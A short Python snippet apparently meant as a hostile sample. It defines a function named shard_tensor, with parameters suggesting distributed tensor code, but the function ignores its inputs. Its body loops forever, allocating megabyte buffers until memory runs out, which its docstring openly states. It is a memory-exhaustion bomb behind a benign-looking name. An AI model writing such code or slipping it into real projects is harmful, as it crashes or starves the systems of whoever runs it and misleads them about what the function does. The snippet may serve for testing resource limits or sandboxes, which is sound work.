"""Fills the memory in small steps."""


def shard_tensor(key, value, rank, size, num_kv_heads):
    kept = []
    while True:
        kept.append(bytearray(1 << 20))
